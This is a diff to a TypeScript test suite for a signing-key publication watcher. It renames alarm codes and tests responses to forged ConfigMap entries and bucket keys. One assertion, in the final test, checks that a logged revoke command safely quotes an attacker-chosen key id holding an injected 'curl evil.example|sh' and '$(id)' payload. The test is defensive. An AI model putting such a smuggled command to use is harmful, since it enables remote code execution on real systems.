@@ -5,7 +5,7 @@ import { digestOf } from '../../../src/publish/key-state.ts'
 import { revokeKey } from '../../../src/publish/revoke.ts'
 import { startTestWatch, type TestWatch } from './test-watch.ts'
 
-const reasons = ({ status }: Awaited<ReturnType<TestWatch['look']>>) => status.alarms.map(({ reason }) => reason)
+const reasons = ({ status }: Awaited<ReturnType<TestWatch['look']>>) => status.alarms.map(({ code }) => code)
 const sorted = (...keys: { kid: string }[]) => keys.map(({ kid }) => kid).toSorted()
 
 suite('whoever may write the ConfigMap', () => {
@@ -27,7 +27,7 @@ suite('whoever may write the ConfigMap', () => {
     const state = await watch.look()
     const own = sorted(watch.sandbox.cluster.keys.current)
     assert.deepEqual(watch.published(), own)
-    assert.deepEqual(reasons(state), ['KeyUnvouched'])
+    assert.deepEqual(reasons(state), ['RECORDED_KEY_UNKNOWN'])
     assert.match(state.status.alarms[0]?.message ?? '', new RegExp(`^key "${attacker.kid}" is remembered, but neither`))
     forge(watch, { ...watch.remembered(), ...entryOf(await generateSigningKey()) })
     await watch.look(25)
@@ -52,14 +52,14 @@ suite('whoever may write the ConfigMap', () => {
     for (const [what, entries] of Object.entries(removals)) {
       forge(watch, { ...Object.fromEntries(Object.entries(before).filter(([one]) => one !== name)), ...entries })
       const state = await watch.look()
-      assert.deepEqual(reasons(state), ['RevocationRemoved'], what)
+      assert.deepEqual(reasons(state), ['REVOCATION_REMOVED'], what)
       assert.equal(watch.remembered()[name], before[name], what)
       await watch.look(25)
       assert.deepEqual(watch.published(), sorted(keys.current), what)
     }
     assert.match(
       watch.logged.join('\n'),
-      new RegExp(`RevocationRemoved the revocation of key "${leaked.kid}" was taken out`),
+      new RegExp(`REVOCATION_REMOVED the revocation of key "${leaked.kid}" was taken out`),
     )
     watch.sandbox.clock.advance('1 h')
     assert.deepEqual(reasons(await watch.look()), [])
@@ -76,7 +76,7 @@ suite('whoever may write the ConfigMap', () => {
     const memory = store.read('ConfigMap', 'pullpass-system', 'pullpass-issuer')
     assert.ok(memory)
     store.remove(memory)
-    assert.deepEqual(reasons(await watch.look()), ['RevocationRemoved'])
+    assert.deepEqual(reasons(await watch.look()), ['REVOCATION_REMOVED'])
     watch.restart()
     await watch.look()
     assert.deepEqual(watch.published(), sorted(keys.current))
@@ -106,7 +106,7 @@ suite('whoever may write the ConfigMap', () => {
     assert.equal(status.alarms.length, 51)
     const sentence = 'warn the publication of the issuer needs attention '
     const told = watch.logged.flatMap((line) => (line.startsWith(sentence) ? line.split(' ')[8] : []))
-    assert.deepEqual(told, [...Array.from({ length: 5 }, () => 'KeyUnvouched'), 'KeyUnpublished'])
+    assert.deepEqual(told, [...Array.from({ length: 5 }, () => 'RECORDED_KEY_UNKNOWN'), 'KEY_UNPUBLISHED'])
   })
 
   test('keeps no key public by a sight in the future: it is put right', async (t) => {
@@ -150,7 +150,7 @@ suite('whoever may write the bucket', () => {
       body: JSON.stringify({ keys: [...keys, { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' }] }),
     })
     await watch.look(25)
-    const line = watch.logged.find((one) => one.includes('StrangeKey')) ?? ''
+    const line = watch.logged.find((one) => one.includes('PUBLISHED_KEY_UNKNOWN')) ?? ''
     assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n', and see`), line)
   })
 })
